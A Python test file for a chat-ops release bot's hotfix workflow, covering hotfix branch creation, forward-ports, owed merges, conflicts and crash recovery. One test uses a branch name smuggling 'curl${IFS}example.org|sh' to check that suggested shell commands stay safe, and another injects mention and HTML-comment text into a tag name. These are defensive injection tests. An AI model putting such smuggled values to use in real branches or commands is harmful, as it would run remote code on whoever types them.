"""A fix begins at what production serves, and comes to every branch that must have it."""

from __future__ import annotations

import shlex
from datetime import timedelta
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from bot.github.written import sections
from bot.store import Store
from commands.bring import ticket_in
from commands.ports import Request
from policy.document import Hotfix
from policy.evidence import PullRequest, Tag
from policy.model import Sha
from tests.bot.books import unsettled
from tests.branches import Branches, Pull
from tests.commands.test_crash import Life, Mortal
from tests.conversation import Bot, plays
from tests.world import HOUR, Posted, Town, commit, digest, revision_of, site_of, story

HOTFIX: dict[str, Any] = {
    "ports_to": ["main", "release/*"],
    "closed": ["release/1.2"],
    "owes": {
        "kind": "forward-port",
        "says": "the hotfix is merged",
        "owner": "release_manager",
        "business_days": 0,
        "by": "24:00",
    },
}
SERVES = commit("checkout", 1)
BEGUN = "maya: /release hotfix start checkout ticket:ABC-9 reason:totals are wrong"


@pytest.fixture
def town(tmp_path: Path) -> Town:
    return _town(tmp_path)


def _town(directory: Path) -> Town:
    """checkout serves v1.4.1; main and release/1.5 have gone on since, release/1.2 is closed."""
    made = story(directory)
    may = made.policies.current().policy.may.model_dump()
    made.policies.adopt(hotfix=HOTFIX, may={**may, "hotfix": ["engineer"]})
    github = made.github
    github.branches |= {"main": commit("checkout", 2), "release/1.2": commit("checkout", 0), "release/1.5": SERVES}
    github.moving.somebody_commits("release/1.5", "Prepare 1.5")
    github.tags[SERVES] = Tag("v1.4.1", SERVES, annotated=True, verified=True)
    return made


def fixed(town: Town, branch: str = "hotfix/1.4.2-ABC-9") -> Sha:
    """Somebody put a fix on that branch; it was built, tagged, and has been in stage for a day."""
    fix = town.github.moving.somebody_commits(branch, "Put the totals right")
    at, image, name = town.clock.now() - 26 * HOUR, digest("checkout", 3), revision_of("checkout", 3)
    town.runs.add(site_of("checkout", "stage"), name, image, fix, at)
    town.github.add_deployment("acme/checkout", fix, "stage", image, name, at)
    town.github.tags[fix] = Tag("v1.4.2", fix, annotated=True, verified=True)
    return fix


async def released(town: Town) -> Sha:
    """The fix serves production, and is on its way to main and release/1.5."""
    town.github.branches["hotfix/1.4.2-ABC-9"] = SERVES
    fix = fixed(town)
    await releases(town)
    return fix


async def releases(town: Town) -> None:
    """What stage serves goes to production."""
    async with Bot(town) as bot:
        for who, words in (("maya", "promote checkout stage→prod reason:ABC-9, totals are wrong"), ("omar", "approve")):
            asked = next(iter(await bot.store.open_operations()), None)
            said = words if asked is None or asked.plan is None else f"approve {asked.id} plan:{asked.plan.hash[:8]}"
            await bot.hears(Request(f"release {who}", said, town.people.account(who), "C0RELEASES"))
            await bot.rests()
        assert not bot.surprises
    assert town.runs.serving("checkout") == digest("checkout", 3)


async def owed(town: Town) -> list[str]:
    """What is owed now."""
    async with Bot(town) as bot:
        return sorted(one.says for one in await bot.store.obligations("checkout"))


async def ports(town: Town, what: str) -> None:
    """Somebody has that brought elsewhere."""
    async with Bot(town) as bot:
        said = f"hotfix port checkout {what} ticket:ABC-9 reason:it has the same fault"
        await bot.hears(Request("port", said, town.people.account("maya"), "C0RELEASES"))
        await bot.rests()
        assert not bot.surprises


def posted(town: Town, words: str) -> Posted:
    """The newest message that begins so."""
    return [one for one in town.slack.messages if str(one.now["text"]).startswith(words)][-1]


def into(town: Town, target: str) -> Pull:
    """The pull request of ours to that branch."""
    (found,) = [pull for pull in town.github.moving.pulls if pull.target == target]
    return found


# Beginning one --------------------------------------------------------------------------------------------------------


@pytest.mark.requirement("S4-166", "S4-067")
async def test_a_hotfix_begins_at_what_production_serves_one_patch_further(town: Town) -> None:
    await plays(
        """
        maya: /release hotfix start checkout ticket:ABC-9 reason:totals are wrong
        bot: Hotfix of checkout: hotfix/1.4.2-ABC-9 is there.
             Asked by: @maya
             From: v1.4.1, c1c1c1c, what prod serves
             Next version: 1.4.2
             Ticket: ABC-9
             Reason: totals are wrong
             • git fetch origin && git switch hotfix/1.4.2-ABC-9
             • Put the fix there by a pull request: it waives no review and no check
             …
        """,
        town,
    )
    assert town.github.branches["hotfix/1.4.2-ABC-9"] == SERVES


async def test_a_version_that_somebody_tagged_is_taken(town: Town) -> None:
    town.github.tags[commit("checkout", 0)] = Tag("v1.4.2", commit("checkout", 0), annotated=True, verified=True)
    await plays(f"{BEGUN}\nbot: Hotfix of checkout: hotfix/1.4.3-ABC-9 is there.", town)


@pytest.mark.parametrize(
    ("branches", "says"),
    [
        (
            {"hotfix/1.4.2-ABC-9": commit("checkout", 2)},
            "hotfix/1.4.2-ABC-9 is there already and stands at c2c2c2c, not at c1c1c1c. Go on with it.",
        ),
        (
            {"hotfix/1.4.2-ABC-7": SERVES},
            "hotfix/1.4.2-ABC-7 is there already for 1.4.2. Go on there, or remove it if nobody needs it.",
        ),
    ],
)
async def test_two_hotfixes_of_one_version_are_not_begun(town: Town, branches: dict[str, Sha], says: str) -> None:
    town.github.branches |= branches
    before = dict(town.github.branches)
    await plays(f"{BEGUN}\nbot → maya: No hotfix was begun: {says}", town)
    assert town.github.branches == before


async def test_of_two_that_ask_for_the_same_version_at_once_one_gets_it(town: Town) -> None:
    words = [f"hotfix start checkout ticket:ABC-{number} reason:totals are wrong" for number in (9, 10)]
    async with Bot(town) as bot:
        asked = [Request(said, said, town.people.account("maya"), "C0RELEASES") for said in words]
        await bot.hears(*asked)
        await bot.rests()
        assert not bot.surprises
    assert len([name for name in town.github.branches if name.startswith("hotfix/1.4.2-")]) == 1


@pytest.mark.parametrize(
    ("happened", "says"),
    [
        ("promoted", "prod does not serve c1c1c1c any more. Ask again."),
        ("begun", "hotfix/1.4.2-ABC-7 is there already for 1.4.2. Go on there, or remove it if nobody needs it."),
    ],
)
async def test_what_happened_while_github_was_away_counts(town: Town, happened: str, says: str) -> None:
    town.github.moving.away = True
    await plays(f"{BEGUN}\nbot: Hotfix of checkout: hotfix/1.4.2-ABC-9 is being made.", town)
    if happened == "begun":
        town.github.branches["hotfix/1.4.2-ABC-7"] = SERVES
    else:
        site, name = site_of("checkout", "prod"), revision_of("checkout", 2)
        town.runs.add(site, name, digest("checkout", 2), commit("checkout", 2), town.clock.now())
    town.github.moving.away = False
    await plays(
        f"… 5 min later\nbot now: Hotfix of checkout: hotfix/1.4.2-ABC-9 could not be made.\n     …\n     ✗ {says}\n     …",
        town,
    )
    assert "hotfix/1.4.2-ABC-9" not in town.github.branches


async def test_without_a_version_there_is_no_next_one(town: Town) -> None:
    town.github.tags.clear()
    await plays(
        f"{BEGUN}\nbot → maya: No hotfix was begun: prod serves c1c1c1c, which bears no tag like …, "
        "so the next version is not known. Tag it first.",
        town,
    )


async def test_what_is_missing_is_asked_for(town: Town) -> None:
    await plays(
        """
        maya: /release hotfix start checkout ticket:INC12345
        bot → maya: A hotfix of checkout needs a little more. [Fill in]
             ✗ ticket: `INC12345` does not look like a ticket here (^[A-Z]+-[0-9]+$)
             ✗ reason: a hotfix needs it
             …
        maya: [Fill in] ticket:ABC-9 reason:"totals are wrong"
        bot: Hotfix of checkout: hotfix/1.4.2-ABC-9 is there.
        """,
        town,
    )


async def test_only_those_begin_one_who_may(town: Town) -> None:
    await plays(
        """
        ines: /release hotfix start checkout ticket:ABC-9 reason:totals are wrong
        bot → ines: You may not begin a hotfix.
             …
        """,
        town,
    )
    assert not [name for name in town.github.branches if name.startswith("hotfix/")]


async def test_where_the_policy_knows_none_there_is_none(tmp_path: Path) -> None:
    await plays(
        """
        maya: /release hotfix start checkout ticket:ABC-9 reason:totals are wrong
        bot → maya: This policy knows no hotfixes: it says nothing under `hotfix`.
        """,
        story(tmp_path),
    )


# After production -----------------------------------------------------------------------------------------------------


@pytest.mark.requirement("S4-179", "S4-198")
async def test_what_serves_production_is_brought_to_every_branch_that_lacks_it(town: Town) -> None:
    fix = await released(town)
    opened = {pull.target: pull for pull in town.github.moving.opened()}
    assert opened.keys() == {"main", "release/1.5"}  # release/1.2 is closed
    for target, pull in opened.items():
        (made,) = town.github.only(town.github.branches[target], town.github.branches[pull.source])
        assert (made.picked_from, pull.labels) == (fix, {"forward-port"})
        assert sections(pull.body)["ticket"] == "ABC-9"
        assert sections(pull.body)["release"] == "v1.4.2"
        assert fix in sections(pull.body)["original"]
    short = fix[:7]
    assert await owed(town) == [
        f"the hotfix is merged: {short} into main",
        f"the hotfix is merged: {short} into release/1.5",
    ]
    told = posted(town, "Owed from now on")
    assert "until Tue 24 Nov 2026 23:00 UTC" in str(told.now["text"])  # the end of the day in Berlin
    assert posted(town, f"✓ #{into(town, 'main').number} brings").thread == told.thread != ""


@pytest.mark.parametrize("tickets", ["(?i)^abc-[0-9]+$", "^(?:INC[0-9]+|ABC-[0-9]+)$", "^INC[0-9]+$|^ABC-[0-9]+$"])
async def test_tickets_are_found_however_the_policy_says_what_they_look_like(town: Town, tickets: str) -> None:
    town.policies.adopt(hotfix={**HOTFIX, "tickets": tickets})
    await released(town)
    assert sections(into(town, "main").body)["ticket"] == "ABC-9"


@pytest.mark.parametrize(
    ("said", "ticket"),
    [
        ("fix(ABC-9): totals", "ABC-9"),
        ("See https://acme.example/browse/ABC-9.", "ABC-9"),
        ("[ABC-9] and ABC-10", "ABC-9"),
        ("XABC-9x, ABC-9-1 and abc-9", ""),
    ],
)
def test_a_ticket_is_a_word(said: str, ticket: str) -> None:
    assert ticket_in(Hotfix.model_validate(HOTFIX), [said]) == ticket


async def test_it_is_owed_until_it_is_merged(town: Town) -> None:
    fix = await released(town)
    town.github.moving.somebody_merges(into(town, "main").number)
    await plays(f"… 5 min later\nbot: ✓ {fix[:7]} came to main by #{into(town, 'main').number}.", town)
    assert await owed(town) == [f"the hotfix is merged: {fix[:7]} into release/1.5"]
    town.github.moving.somebody_merges(into(town, "release/1.5").number)
    await plays(f"… 5 min later\nbot: ✓ {fix[:7]} came to release/1.5 by #{into(town, 'release/1.5').number}.", town)
    assert await owed(town) == []
    await plays("… 2 d later", town)


async def test_an_ordinary_release_is_no_hotfix(town: Town) -> None:
    async with Bot(town) as bot:
        await bot.hears(Request("one", "promote checkout stage→prod", town.people.account("maya"), "C0RELEASES"))
        await bot.rests()
        (asked,) = await bot.store.open_operations()
        assert asked.plan
        words = f"approve {asked.id} plan:{asked.plan.hash[:8]}"
        await bot.hears(Request("two", words, town.people.account("omar"), "C0RELEASES"))
        await bot.rests()
        assert await bot.store.timers() == ()
    assert town.runs.serving("checkout") == digest("checkout", 2)
    assert town.github.moving.pulls == []


@pytest.mark.requirement("S4-182")
async def test_what_would_lose_it_is_stopped_and_told_what_to_merge(town: Town) -> None:
    fix = await released(town)
    newer = town.github.moving.somebody_commits("main", "Go on with 1.6")
    at, image, name = town.clock.now() - 26 * HOUR, digest("checkout", 4), revision_of("checkout", 4)
    town.runs.add(site_of("checkout", "stage"), name, image, newer, at)
    town.github.add_deployment("acme/checkout", newer, "stage", image, name, at)
    ways = " and ".join(sorted(f"#{pull.number} into {pull.target}" for pull in town.github.moving.opened()))
    await plays(
        f"""
        maya: /release promote checkout stage→prod
        bot: checkout c4c4c4c4c4c4 → prod is blocked for now. [Check again] [Cancel]
             …
             ✗ no-hotfix-lost: the candidate lacks what was shipped as {fix[:7]} (Put the totals right); promote one that has it
             …
             • It could go ahead if somebody merges {ways} for the next candidate and omar agrees.
             …
        bot: …
        """,
        town,
    )


@pytest.mark.requirement("S4-181")
async def test_a_pull_request_that_does_not_say_what_it_is_for_settles_nothing(town: Town) -> None:
    fix = await released(town)
    pull = into(town, "main")
    pull.body = pull.title = "Fix of ABC-99 and XABC-9, in v1.4.21, v1.4.2-rc.1 and v1.4.2.1"
    town.github.moving.somebody_merges(into(town, "main").number)
    says = f"#{pull.number} is merged, but does not name ABC-9 and v1.4.2 in its description"
    await plays(f"… 5 min later\nbot: ✗ {fix[:7]} is not settled for main: {says}.", town)
    assert len(await owed(town)) == 2
    pull.body = "For ABC-9, in v1.4.2."
    await plays(f"… 5 min later\nbot: ✓ {fix[:7]} came to main by #{into(town, 'main').number}.", town)


async def test_a_pull_request_that_lost_the_fix_on_its_way_settles_nothing(town: Town) -> None:
    fix, pull = await released(town), into(town, "main")
    town.github.branches[pull.source] = town.github.branches["main"]
    town.github.moving.somebody_commits(pull.source, "Something else")
    town.github.moving.somebody_merges(pull.number)
    await plays("… 5 min later", town)
    assert f"the hotfix is merged: {fix[:7]} into main" in await owed(town)


async def test_a_tag_calls_nobody_and_hides_nothing_in_the_description(town: Town) -> None:
    town.policies.adopt(hotfix={**HOTFIX, "tags": "^v.*$"})
    town.github.branches["hotfix/1.4.2-ABC-9"] = SERVES
    fix, name = fixed(town), "v1.4.2-@acme/everyone<!--"
    town.github.tags[fix] = Tag(name, fix, annotated=True, verified=True)
    await releases(town)
    pull = into(town, "main")
    assert "@acme" not in pull.body
    assert "<!--" not in pull.body
    town.github.moving.somebody_merges(pull.number)
    await plays(f"… 5 min later\nbot: ✓ {fix[:7]} came to main by #{pull.number}.", town)


@pytest.mark.requirement("S4-180")
async def test_what_was_written_anew_without_a_link_settles_nothing(town: Town) -> None:
    fix = await released(town)
    town.github.moving.somebody_commits("main", "Put the totals right")
    await plays("… 5 min later", town)
    assert f"the hotfix is merged: {fix[:7]} into main" in await owed(town)


async def test_it_is_told_each_day_and_overdue_at_the_end_of_the_first(town: Town) -> None:
    fix = await released(town)
    town.github.moving.somebody_merges(into(town, "release/1.5").number)
    await plays(f"… 5 min later\nbot: ✓ {fix[:7]} came to release/1.5 by #{into(town, 'release/1.5').number}.", town)
    await plays("… 14 h later\nbot: ✗ Overdue: the hotfix is merged: … [Done]", town)
    await plays(f"… 10 h later\nbot: • main still lacks {fix[:7]}: #{into(town, 'main').number} is open.", town)
    await plays(f"… 24 h later\nbot: • main still lacks {fix[:7]}: #{into(town, 'main').number} is open.", town)


async def test_overdue_it_stops_ordinary_changes_of_production(town: Town) -> None:
    await released(town)
    town.clock.move(timedelta(days=1))
    async with Bot(town) as bot:
        await bot.rests()
        await bot.hears(Request("late", "why checkout stage→prod", town.people.account("maya"), "C0RELEASES"))
    body = posted(town, "checkout stage→prod").now["body"]
    assert any(line.startswith("✗ nothing-overdue: the hotfix is merged") for line in body)


async def test_a_person_settles_it_by_word(town: Town) -> None:
    fix = await released(town)
    await plays("omar: [Done] 1.5 is retired\nbot → omar: …\nbot now: …", town)
    assert await owed(town) == [f"the hotfix is merged: {fix[:7]} into main"]


async def test_what_is_settled_in_the_middle_leaves_no_intent_without_an_end(town: Town) -> None:
    town.github.moving.away = True
    fix = town.github.moving.somebody_commits("main", "Put the totals right")
    await ports(town, f"{fix} to:release/1.5")
    await plays("omar: [Done] 1.5 is retired\nbot → omar: …\nbot now: …", town)
    await plays("… 5 min later\nbot: ✓ Somebody settled it.", town)
    async with Bot(town) as bot:
        assert await unsettled(bot.store) == ()


async def test_a_policy_that_knows_no_hotfixes_any_more_leaves_no_intent_without_an_end(town: Town) -> None:
    town.github.moving.away = True
    fix = town.github.moving.somebody_commits("main", "Put the totals right")
    await ports(town, f"{fix} to:release/1.5")
    may = {**town.policies.current().policy.may.model_dump(), "hotfix": []}
    town.policies.adopt(hotfix=None, may=may)
    await plays("… 5 min later", town)
    async with Bot(town) as bot:
        assert await unsettled(bot.store) == ()


async def test_a_branch_that_the_policy_closes_meanwhile_is_owed_nothing(town: Town) -> None:
    fix = await released(town)
    town.policies.adopt(hotfix={**HOTFIX, "closed": ["release/*"]})
    await plays("… 5 min later\nbot: ✓ release/1.5 gets no fixes any more.", town)
    assert await owed(town) == [f"the hotfix is merged: {fix[:7]} into main"]


async def test_where_github_says_no_people_are_told_and_it_goes_on_once_it_says_yes(town: Town) -> None:
    fix, main = await released(town), into(town, "main")
    town.github.moving.somebody_merges(into(town, "release/1.5").number)
    await plays("… 5 min later\nbot: …", town)
    town.github.refusing.add("pull requests")
    says = "GitHub does not go on with it: 1200 commits lie between; more are not looked at"
    await plays(f"… 5 min later\nbot: ✗ {fix[:7]} is not settled for main: {says}.", town)
    await plays("… 5 min later", town)
    town.github.refusing.clear()
    town.github.moving.somebody_merges(main.number)
    await plays(f"… 5 min later\nbot: ✓ {fix[:7]} came to main by #{main.number}.", town)


async def test_what_cannot_be_looked_through_is_said_and_not_tried_for_ever(town: Town) -> None:
    town.github.branches["hotfix/1.4.2-ABC-9"] = SERVES
    fixed(town)
    heard = town.github.moving.pulls
    async with Bot(town) as bot:
        await bot.hears(Request("ask", "promote checkout stage→prod", town.people.account("maya"), "C0RELEASES"))
        await bot.rests()
        (asked,) = await bot.store.open_operations()
        assert asked.plan
        words = f"approve {asked.id} plan:{asked.plan.hash[:8]}"
        await bot.hears(Request("agree", words, town.people.account("omar"), "C0RELEASES"))
        await bot.rests(lambda: town.runs.serving("checkout") == digest("checkout", 3))
        town.github.refusing.add("lineage")
        await bot.rests()
        assert not bot.surprises
        assert await bot.store.timers() == ()
    assert heard == []
    assert posted(town, "✗ Whether other branches lack what this brought cannot be told: 1200 commits").thread


async def test_one_that_was_closed_is_told(town: Town) -> None:
    fix = await released(town)
    into(town, "main").closed = True
    says = f"#{into(town, 'main').number} was closed and not merged; open it again, or bring it otherwise"
    await plays(f"… 5 min later\nbot: ✗ {fix[:7]} is not settled for main: {says}.", town)


async def test_a_conflict_leaves_nothing_and_says_exactly_what_to_do(town: Town) -> None:
    town.github.branches["hotfix/1.4.2-ABC-9"] = SERVES
    fix = fixed(town)
    town.github.moving.clashing.append(frozenset({commit("checkout", 2), fix}))
    await releases(town)
    told = posted(town, f"✗ {fix[:7]} cannot be brought to main by itself: it conflicts.")
    branch = next(line.split()[4] for line in told.now["body"] if "git switch" in line)
    assert list(told.now["body"]) == [
        "• git fetch origin",
        f"• git switch -c {branch} origin/main",
        f"• git cherry-pick -x {fix}",
        "• git add -A && git cherry-pick --continue  # after each conflict that you have put right",
        f"• git push origin {branch}",
        f"• gh pr create --base main --head {branch}",
    ]
    assert "Nothing was left there. That is for release manager. Name ABC-9 and v1.4.2" in str(told.now["text"])
    assert branch not in town.github.branches
    assert len(await owed(town)) == 2


async def test_where_only_the_pull_request_is_missing_only_that_is_to_be_done(town: Town) -> None:
    town.github.moving.takes_none = "GitHub refuses a request about acme/checkout: it is archived"
    fix = town.github.moving.somebody_commits("main", "Put the totals right")
    await ports(town, f"{fix} to:release/1.5")
    told = posted(town, f"✗ {fix[:7]} cannot be brought to release/1.5 by itself: GitHub refuses")
    assert "archived. backport/ABC-9-to-1.5 holds it already. That is for" in str(told.now["text"])
    assert list(told.now["body"]) == ["• gh pr create --base release/1.5 --head backport/ABC-9-to-1.5"]


async def test_very_many_commits_are_for_people_to_bring(town: Town) -> None:
    town.github.branches["hotfix/1.4.2-ABC-9"] = SERVES
    for number in range(50):
        town.github.moving.somebody_commits("hotfix/1.4.2-ABC-9", f"Part {number}")
    fix = fixed(town)
    await releases(town)
    told = posted(town, f"✗ 51 commits up to {fix[:7]} cannot be brought to main by itself")
    assert "more than 50 commits are not picked one by one. Nothing was left there." in str(told.now["text"])
    assert await owed(town) == [
        f"the hotfix is merged: 51 commits up to {fix[:7]} into main",
        f"the hotfix is merged: 51 commits up to {fix[:7]} into release/1.5",
    ]
    assert town.github.moving.pulls == []


async def test_what_is_to_be_typed_is_safe_to_type_whatever_branches_are_called(town: Town) -> None:
    evil = "release/1.6;curl${IFS}example.org|sh"
    town.github.branches[evil] = commit("checkout", 2)
    fix = town.github.moving.somebody_commits("main", "Put the totals right")
    town.github.moving.clashing.append(frozenset({commit("checkout", 2), fix}))
    await ports(town, f"{fix} to:{evil}")
    told = posted(town, f"✗ {fix[:7]} cannot be brought to {evil} by itself")
    for line in told.now["body"]:
        words = shlex.shlex(str(line).partition("  # ")[0], posix=True, punctuation_chars=True)
        words.whitespace_split = True
        assert {word for word in words if set(word) <= set(";|&")} <= {"&&"}, line


async def test_a_long_name_leaves_the_title_short_enough(town: Town) -> None:
    line = f"release/{'x' * 140}"
    town.github.branches[line] = commit("checkout", 0)
    fix = town.github.moving.somebody_commits("main", "Put the totals right " * 20)
    await ports(town, f"{fix} to:{line}")
    (pull,) = town.github.moving.opened()
    assert len(pull.title) <= 256  # https://docs.github.com/rest/pulls/pulls#create-a-pull-request
    assert line in pull.title


async def test_where_very_many_branches_would_get_it_nobody_is_flooded(town: Town) -> None:
    town.github.branches |= {f"release/9.{number}": commit("checkout", 0) for number in range(60)}
    await released(town)
    says = "62 branches of acme/checkout are like main or release/*; fixes come to 50 at most."
    assert posted(town, f"✗ Whether other branches lack what this brought cannot be told: {says}").thread
    assert town.github.moving.pulls == []
    fix = town.github.branches["hotfix/1.4.2-ABC-9"]
    await ports(town, f"{fix} to:main,release/1.5")
    assert {pull.target for pull in town.github.moving.opened()} == {"main", "release/1.5"}


@pytest.mark.requirement("S4-182")
async def test_what_was_taken_back_where_it_was_brought_to_is_lost_again(town: Town) -> None:
    fix, pull = await released(town), into(town, "main")
    town.github.moving.somebody_merges(pull.number)
    (picked,) = [link for link in town.github.behind(town.github.branches["main"]) if link.picked_from == fix]
    town.github.moving.somebody_commits("main", "Revert it", reverts=(picked.commit,))
    newer = town.github.moving.somebody_commits("main", "Go on with 1.6")
    at, image, name = town.clock.now() - 26 * HOUR, digest("checkout", 4), revision_of("checkout", 4)
    town.runs.add(site_of("checkout", "stage"), name, image, newer, at)
    town.github.add_deployment("acme/checkout", newer, "stage", image, name, at)
    async with Bot(town) as bot:
        await bot.rests()
        await bot.hears(Request("late", "why checkout stage→prod", town.people.account("maya"), "C0RELEASES"))
    told = posted(town, "checkout stage→prod").now["body"]
    assert any(line.startswith(f"✗ no-hotfix-lost: the candidate lacks what was shipped as {fix[:7]}") for line in told)


# Elsewhere, too -------------------------------------------------------------------------------------------------------


@pytest.mark.requirement("S4-199")
async def test_a_fix_is_brought_to_an_older_line_with_a_ticket_and_a_reason(town: Town) -> None:
    fix = town.github.moving.somebody_commits("main", "Put the totals right")
    await plays(
        f"""
        maya: /release hotfix port checkout {fix} to:release/1.5
        bot → maya: To bring {fix[:12]} to other branches a little more is needed. [Fill in]
             ✗ ticket: it is followed up by one, and one looks like ^[A-Z]+-[0-9]+$
             ✗ reason: whoever reviews it must know why
             …
        maya: [Fill in] ticket:ABC-9 reason:"1.5 has the same fault"
        bot: checkout: {fix[:12]} to release/1.5.
        bot: • release/1.5 lacks what this brought; it is brought there.
        bot: Owed from now on: … [Done]
        bot: ✓ #51 brings {fix[:7]} to release/1.5, from backport/ABC-9-to-1.5.
             • It is owed until that is merged.
        """,
        town,
    )
    (pull,) = town.github.moving.opened()
    assert pull.labels == {"backport", "backport:1.5"}
    assert "has the same fault" in sections(pull.body)["why"]


@pytest.mark.requirement("S4-196")
async def test_ticket_original_and_backport_stand_together_in_the_books(town: Town) -> None:
    github = town.github
    github.branches["fix"] = github.branches["main"]
    github.moving.somebody_commits("fix", "Put the totals right")
    number = await github.moving.propose("acme/checkout", source="fix", target="main", title="Fix", body="")
    merge = github.moving.somebody_merges(number)
    async with Bot(town) as bot:
        said = f"hotfix port checkout #{number} to:release/1.5 ticket:ABC-9 reason:1.5 has the same fault"
        await bot.hears(Request("port", said, town.people.account("maya"), "C0RELEASES"))
        await bot.rests()
        (entry,) = [one for one in await bot.store.newest(100) if (one.kind, one.what) == ("port", "confirmed")]
    (backport,) = github.moving.opened()
    told = {key: entry.detail[key] for key in ("ticket", "originals", "pull_request", "commits")}
    assert told == {"ticket": "ABC-9", "originals": [number], "pull_request": backport.number, "commits": [merge]}
    assert f"- #{number}" in sections(backport.body)["original"]


@pytest.mark.parametrize(
    ("words", "says"),
    [
        ("hotfix port checkout #7 ticket:ABC-9 reason:x", "Nothing was begun: There is no pull request #7."),
        (
            "hotfix port checkout {v2} to:release/1.2 ticket:ABC-9 reason:x",
            "Nothing was begun: release/1.2 is no branch there that gets fixes; those are like main or release/*.",
        ),
        (
            "hotfix port checkout c2c2c2c ticket:ABC-9 reason:x",
            "`c2c2c2c` is neither a pull request like `#120` nor a whole commit: `hotfix port checkout #120 …",
        ),
    ],
)
async def test_what_cannot_be_brought_is_said(town: Town, words: str, says: str) -> None:
    await plays(f"maya: /release {words.format(v2=commit('checkout', 2))}\nbot → maya: {says}", town)


async def test_of_very_many_commits_no_part_is_brought(town: Town) -> None:
    made = [town.github.moving.somebody_commits("main", f"Part {number}") for number in range(51)]
    for one in reversed(made):
        town.github.pull_requests[one] = PullRequest(77, "Put the totals right", head="fix", base="main")
    says = "#77 brought more than 50 commits; bring it by hand, or name them one by one."
    words = "maya: /release hotfix port checkout #77 to:release/1.5 ticket:ABC-9 reason:x"
    await plays(f"{words}\nbot → maya: Nothing was begun: {says}", town)


async def test_a_merge_is_brought_by_the_parent_that_it_is_counted_from(town: Town) -> None:
    github = town.github
    github.branches["fix"] = github.branches["main"]
    fix = github.moving.somebody_commits("fix", "Put the totals right")
    number = await github.moving.propose("acme/checkout", source="fix", target="main", title="Fix", body="")
    merge = github.moving.somebody_merges(number)
    words = f"maya: /release hotfix port checkout {merge} to:release/1.5 ticket:ABC-9 reason:x"
    says = f"Nothing was begun: {merge[:7]} is a merge: say `mainline:1` for what it brought to its first parent."
    await plays(f"{words}\nbot → maya: {says}", town)
    async with Bot(town) as bot:
        said = f"hotfix port checkout #{number} to:release/1.5 ticket:ABC-9 reason:x"
        await bot.hears(Request("port", said, town.people.account("maya"), "C0RELEASES"))
        await bot.rests()
        assert not bot.surprises
    (pull,) = github.moving.opened()
    assert fix != merge
    assert f"(cherry picked from commit {merge})" in pull.body


async def test_what_no_branch_lacks_is_said(town: Town) -> None:
    await plays(
        f"""
        maya: /release hotfix port checkout {SERVES} to:main ticket:ABC-9 reason:to be sure
        bot: checkout: {SERVES[:12]} to main.
        bot: ✓ No branch lacks it: nothing is to be done.
        """,
        town,
    )


class Watched:
    """What writes to GitHub, watched for whether its intent stands in the books."""

    def __init__(self, port: Any, store: list[Store], heard: list[str]) -> None:
        self._port, self._store, self._heard = port, store, heard

    def __getattr__(self, name: str) -> Any:
        found = getattr(self._port, name)

        async def call(*said: Any, **named: Any) -> Any:
            assert {entry.kind for entry in await unsettled(self._store[0])} & {"hotfix", "port"}, name
            self._heard.append(name)
            return await found(*said, **named)

        return call


async def test_nothing_is_sent_before_its_intent_stands_in_the_books(town: Town) -> None:
    fix = town.github.moving.somebody_commits("main", "Put the totals right")
    stores: list[Store] = []
    heard: list[str] = []

    def around(port: Any) -> Any:
        return Watched(port, stores, heard) if isinstance(port, Branches) else port

    async with Bot(town, around) as bot:
        stores.append(bot.store)
        for number, words in enumerate(
            (
                "hotfix start checkout ticket:ABC-9 reason:totals are wrong",
                f"hotfix port checkout {fix} to:release/1.5 ticket:ABC-9 reason:it has the same fault",
            )
        ):
            await bot.hears(Request(f"r{number}", words, town.people.account("maya"), "C0RELEASES"))
            await bot.rests()
        assert not bot.surprises
        assert await unsettled(bot.store) == ()
    assert heard == ["begin", "picked", "begin", "propose", "label"]


# Whoever does it may die ----------------------------------------------------------------------------------------------


async def _dies_and_goes_on(town: Town, life: Life) -> dict[str, Any]:
    """A hotfix begins, and its fix is brought to two branches; where the process dies, another one goes on."""
    said = ["hotfix start checkout ticket:ABC-9 reason:totals are wrong"]
    fix = Sha("")
    for number in range(2):
        if number:
            fix = fixed(town)
            said.append(f"hotfix port checkout {fix} ticket:ABC-9 reason:they have the same fault")
        heard = False
        while not heard:
            async with Bot(town, partial(Mortal, life=life)) as bot:
                try:
                    await bot.answers()
                    await bot.hears(Request(f"r{number}", said[number], town.people.account("maya"), "C0RELEASES"))
                    heard = True
                    await bot.rests()
                except BaseException:
                    if not life.over:
                        raise
                    life = Life()
        async with Bot(town) as bot:
            await bot.answers()
            town.clock.move(timedelta(minutes=1))  # a lease of whoever died runs out
            await bot.rests()
    async with Bot(town) as bot:
        assert not bot.surprises
        assert await unsettled(bot.store) == ()
        pulls = town.github.moving.pulls
        return {
            "pulls": sorted((pull.source, pull.target, pull.title, pull.body, *sorted(pull.labels)) for pull in pulls),
            "branches": {name: town.github.moving.tree(at) for name, at in town.github.branches.items()},
            "owed": await owed(town),
            "waits": sorted(one.question.change for one in await bot.store.timers()),
        }


@pytest.mark.requirement("D-07")
@pytest.mark.slow
async def test_a_hotfix_and_its_way_elsewhere_survive_every_death(tmp_path: Path) -> None:
    def begins(name: str) -> Town:
        (tmp_path / name).mkdir()
        return _town(tmp_path / name)

    alive = Life()
    expected = await _dies_and_goes_on(begins("alive"), alive)
    assert {pull[1] for pull in expected["pulls"]} == {"release/1.5", "main"}
    changing = ("take", "commit", "carry_on", "claim", "picked", "begin", "propose", "label")
    deaths = [(number, False) for number in range(len(alive.calls))]
    deaths += [(number, True) for number, name in enumerate(alive.calls) if name.startswith(changing)]
    assert {"picked", "begin", "propose", "label"} <= set(alive.calls)
    for number, after in deaths:
        where = f"died {'after' if after else 'before'} call {number}, {alive.calls[number]}"
        life = Life(number, after)
        found = await _dies_and_goes_on(begins(f"{number}-{after}"), life)
        assert life.over, f"{where}: it never got there"
        assert found == expected, where


async def test_status_shows_what_is_on_its_way(town: Town) -> None:
    fix = await released(town)
    await plays(
        f"""
        maya: /release status checkout
        bot → maya: Status of checkout: nothing under way.
             …
             • checkout@prod: {fix[:7]} into …, #… is open
             • checkout@prod: {fix[:7]} into …, #… is open
             …
        """,
        town,
    )


async def test_a_branch_is_looked_through_again_only_once_it_moved(town: Town) -> None:
    """Each look through it is dozens of requests, of which an hour has five thousand."""
    await released(town)
    looks = 0
    lineage = town.github.lineage

    async def counted(repository: str, base: Sha, head: Sha) -> Any:
        nonlocal looks
        looks += 1
        return await lineage(repository, base, head)

    town.github.lineage = counted  # type: ignore[method-assign]
    await plays("… 5 min later", town)
    first, looks = looks, 0
    await plays("… 5 min later", town)
    assert (first > 0, looks) == (True, 0)
    town.github.moving.somebody_commits("main", "Go on")
    await plays("… 5 min later", town)
